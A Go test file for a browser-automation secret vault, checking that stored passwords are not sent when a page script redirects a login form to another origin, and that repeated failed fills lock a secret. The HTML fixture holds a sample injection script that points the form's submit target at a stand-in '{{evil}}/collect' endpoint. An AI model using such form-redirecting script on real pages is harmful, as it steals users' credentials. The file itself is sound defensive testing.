package threat

import (
	"testing"

	"browser-mcp/vault"
)

const loginForm = `<form action="/submit" method="post"><input type="password" name="password"><input name="user"><button>Sign in</button></form>
<button id="inject">Inject</button><script>
document.getElementById('inject').onclick = () => document.querySelector('form button').setAttribute('formaction', '{{evil}}/collect') </script>`

// One attribute, put in by whoever may write into the page, sends the form elsewhere (rule 23).
func TestThreatInjectedActionGetsNothing(t *testing.T) {
	const password = "Correct-Horse7"
	r, a := stand(t, loginForm)
	r.secret("password", vault.Password, password)
	a.fill("password", "password")
	a.click("Inject")
	a.refused("destination_denied", "submit_origin_mismatch", "click", args{"element_uid": a.uid("Sign in")})
	user := a.uid("user")
	a.refused("destination_denied", "submit_origin_mismatch", "type_text", args{"element_uid": user, "text": "ada", "submit": true})
	a.call("click", args{"element_uid": user})
	a.refused("destination_denied", "submit_origin_mismatch", "press_key", args{"key": "Enter"})
	a.refused("destination_denied", "submit_origin_mismatch", "fill_secret", args{"secret_id": r.ids["password"], "element_uid": a.uid("password")})
	if r.exports() != 1 || r.site.Received(r.site.Evil, password) {
		t.Errorf("%d exports, want the first fill's; the hostile origin has the password: %t", r.exports(), r.site.Received(r.site.Evil, password))
	}
	// The press that was refused would have sent it.
	a.eval("/page", "document.querySelector('form').requestSubmit(document.querySelector('form button')) ?? ''")
	r.arrives("/collect")
	if !r.site.Received(r.site.Evil, password) {
		t.Error("the hostile origin did not get the form: there was nothing to attack")
	}
}

// Where the owner of the secret says so, a form may send it to another origin.
func TestThreatListedSubmitOriginIsAllowed(t *testing.T) {
	const password = "Correct-Horse7"
	r, a := stand(t, loginForm)
	r.secret("password", vault.Password, password, "sbm:submit-origin", r.site.Evil)
	a.click("Inject")
	a.fill("password", "password")
	a.click("Sign in")
	r.arrives("/collect")
	if !r.site.Received(r.site.Evil, password) {
		t.Error("the listed origin did not get the form")
	}
}

// Whether a fill fits is the one thing that tells of a value; three misses end it, whatever is asked then (N6).
func TestThreatThreeMissesLock(t *testing.T) {
	r, a := stand(t, `<select name="month"><option>12</option></select><button id="right">Right</button><script>
document.getElementById('right').onclick = () => { document.querySelector('select').innerHTML = '<option>03</option>' }</script>`)
	r.secret("month", vault.Text, "03", "sbm:selector", "select")
	fill := args{"secret_id": r.ids["month"], "element_uid": a.uid("month")}
	for range 3 {
		a.refused("fill_incomplete", "", "fill_secret", fill)
	}
	a.click("Right")
	exports := r.exports()
	a.refused("fill_incomplete", "locked", "fill_secret", fill)
	if r.exports() != exports {
		t.Error("a locked fill asked for the value")
	}
	if other := r.connect(); other.open("/page") != "" {
		other.click("Right")
		other.fill("month", "month") // the right option is filled where nobody has guessed
	}
}
